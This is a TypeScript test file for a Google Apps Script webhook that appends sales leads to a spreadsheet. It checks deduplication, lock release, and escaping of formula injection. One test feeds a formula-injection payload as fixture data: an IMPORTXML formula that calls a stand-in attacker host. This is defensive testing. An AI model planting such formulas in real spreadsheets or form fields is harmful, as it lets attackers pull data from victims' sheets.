import { createContext, runInContext } from 'node:vm';
import { expect, test } from 'vitest';
import { WEBHOOK_COLUMNS } from '#shared/webhooks.ts';
import { sheetScript } from './sheet-script.ts';

type Cell = string | number | boolean;

/** Only the part of a spreadsheet that the script uses. A leading apostrophe makes a cell text and is not stored. */
const spreadsheet = () => {
  const sheets = new Map<string, Cell[][]>();
  const locks = { taken: 0, given: 0 };
  const kept = (value: Cell): Cell => {
    if (typeof value !== 'string') return value;
    if (value.startsWith("'")) return value.slice(1);
    return /^[=+]/.test(value) ? `FORMULA ${value}` : value;
  };
  const sheetOf = (rows: Cell[][]) => ({
    getLastRow: () => rows.length,
    setFrozenRows: () => undefined,
    appendRow: (row: Cell[]) => rows.push(row.map(kept)),
    getRange: (from: number, column: number, count: number) => ({
      createTextFinder: (text: string) => {
        const finder = {
          matchEntireCell: () => finder,
          matchCase: () => finder,
          findNext: () =>
            rows.slice(from - 1, from - 1 + count).find((row) => String(row[column - 1]) === text) ? {} : null,
        };
        return finder;
      },
    }),
  });
  const file = {
    getSheetByName: (name: string) => (sheets.has(name) ? sheetOf(sheets.get(name) ?? []) : null),
    insertSheet: (name: string) => {
      sheets.set(name, []);
      return sheetOf(sheets.get(name) ?? []);
    },
  };
  const world = createContext({
    SpreadsheetApp: { getActiveSpreadsheet: () => file, flush: () => undefined },
    LockService: {
      getScriptLock: () => ({ waitLock: () => (locks.taken += 1), releaseLock: () => (locks.given += 1) }),
    },
    ContentService: {
      MimeType: { JSON: 'JSON' },
      createTextOutput: (text: string) => ({ setMimeType: () => ({ text }) }),
    },
  });
  runInContext(sheetScript('Orchard'), world);
  return {
    locks,
    rows: () => sheets.get('Leads') ?? [],
    post(body: string): unknown {
      const { text } = runInContext(
        'doPost(posted)',
        Object.assign(world, { posted: { postData: { contents: body } } }),
      );
      return JSON.parse(text as string) as unknown;
    },
  };
};

const lead = (id: string, more: object = {}): string =>
  JSON.stringify({
    ...Object.fromEntries(WEBHOOK_COLUMNS.map((name) => [name, name])),
    id,
    leadId: 7,
    pageId: null,
    completedBoth: false,
    ...more,
  });

test("writes a lead once, in the contract's columns", () => {
  const sheet = spreadsheet();
  expect(sheet.post(lead('msg_1'))).toEqual({ ok: true, added: true });
  expect(sheet.post(lead('msg_1'))).toEqual({ ok: true, added: false });
  expect(sheet.post(lead('msg_2'))).toEqual({ ok: true, added: true });
  const [heading, first, second, ...more] = sheet.rows();
  expect(heading).toEqual([...WEBHOOK_COLUMNS]);
  expect([first?.[1], second?.[1], more]).toEqual(['msg_1', 'msg_2', []]);
  expect(first?.[WEBHOOK_COLUMNS.indexOf('pageId')]).toBe('');
  expect(first?.[WEBHOOK_COLUMNS.indexOf('leadId')]).toBe(7);
});

test('never writes a text as a formula', () => {
  const sheet = spreadsheet();
  sheet.post(lead('msg_1', { name: '=IMPORTXML("https://evil.example")', phone: '+1 401 555 0134' }));
  sheet.post(lead('msg_2', { name: '\'=IMPORTXML("https://evil.example")' }));
  const [, first, second] = sheet.rows();
  const name = WEBHOOK_COLUMNS.indexOf('name');
  expect([first?.[name], second?.[name]]).toEqual(Array(2).fill('=IMPORTXML("https://evil.example")'));
  expect(first?.[WEBHOOK_COLUMNS.indexOf('phone')]).toBe('+1 401 555 0134');
});

test('accepts the next lead after a failure', () => {
  const sheet = spreadsheet();
  expect(() => sheet.post('no JSON')).toThrow('JSON');
  expect(sheet.locks).toEqual({ taken: 1, given: 1 });
});
